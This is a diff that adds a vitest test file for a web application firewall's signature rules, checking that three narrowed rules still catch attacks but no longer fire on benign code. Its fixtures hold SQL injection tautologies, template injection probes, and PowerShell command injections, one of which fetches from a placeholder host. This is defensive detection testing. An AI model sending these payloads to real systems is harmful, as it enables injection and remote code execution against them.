@@ -1,0 +1,49 @@
+/**
+ * Three older generic rules narrowed after they fired on generated benign traffic (seed 7): each keeps
+ * its attack and stays quiet on the benign value that tripped it.
+ * - 9000105 (quote, boolean operator, comparison): JavaScript's `===` is no SQL comparison.
+ * - 9000304 (PowerShell with an execution flag): `@powershell` is a batch or npm-script line, whose `@`
+ *   turns off the echo; an injected command has no echo to turn off.
+ * - 9000702 (template expression with arithmetic): the expression stays on one line and never crosses a
+ *   backtick (a JavaScript template literal or a Markdown code span closes there).
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import { fileURLToPath } from 'node:url';
+import { loadRuleSet } from '../../src/signatures/load-rule-set.js';
+import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
+import type { RequestSpec } from './fixtures.js';
+import { buildInspection } from './fixtures.js';
+
+const RULES = fileURLToPath(new URL('../../signatures/warden.rules', import.meta.url));
+const BROWSER: Array<[string, string]> = [
+  ['Host', 'shop.example.com'],
+  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
+];
+const json = (body: string): RequestSpec => ({ method: 'POST', url: '/api/items', headers: [...BROWSER, ['Content-Type', 'application/json']], body });
+const form = (body: string): RequestSpec => ({ method: 'POST', url: '/submit', headers: [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']], body });
+
+let gate: CompiledSignatureGate;
+beforeAll(async () => {
+  gate = (await loadRuleSet([RULES])).gate;
+});
+const sids = (spec: RequestSpec): number[] => gate.evaluate(buildInspection({ headers: BROWSER, ...spec })).hits.map((h) => h.sid);
+
+// [sid, what, attack, benign value that fired before]
+const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
+  [9000105, 'a quoted tautology in JSON', json(`{"q":"x' OR 'a'='a"}`), json(`{"text":"function myTrustFn(address, hop) {\\n  return address === '1.2.3.4' && hop === 0\\n}"}`)],
+  [9000105, 'a quoted tautology with == in a form', form('q=x%27+or+%27a%27%3D%3D%27a'), form('code=if+(s+%3D%3D%3D+%27a%27+%26%26+n+%3D%3D%3D+1)')],
+  [9000304, 'PowerShell after an escaped line break in JSON', json('{"next":"\\npowershell -ExecutionPolicy Bypass -c \\"iwr http://x.test\\""}'), json(`{"body":"\\"windowsDebug\\": \\"@powershell -Command $env:DEBUG='*';node app.js\\""}`)],
+  [9000304, 'PowerShell by its full path', form('x=%26%26C%3A%5CWindows%5CSystem32%5CWindowsPowerShell%5Cv1.0%5Cpowershell.exe+-nop+-c+whoami'), form('script=%40powershell+-NoProfile+-File+build.ps1')],
+  [9000702, 'template arithmetic in a form', form('name=%7B%7B7*7%7D%7D'), json('{"readme":"the string `${` is not eligible for brace expansion.\\n\\n```\\nms(2 * 60000)  // \\"2m\\"\\n```"}')],
+  [9000702, 'a dollar-brace probe in JSON', json('{"name":"${7*7}"}'), json('{"code":"const s = `${a}` + `${b}`; const n = 2 * 3;"}')],
+];
+
+describe('narrowed generic rules (9000105, 9000304, 9000702)', () => {
+  it.each(CASES.map(([sid, what, attack]) => [`${sid} ${what}`, sid, attack] as const))('%s: fires', (_n, sid, attack) => {
+    expect(sids(attack)).toContain(sid);
+  });
+
+  it.each(CASES.map(([sid, what, , benign]) => [`${sid} ${what}`, sid, benign] as const))('%s: quiet on the benign value', (_n, sid, benign) => {
+    expect(sids(benign)).not.toContain(sid);
+  });
+});
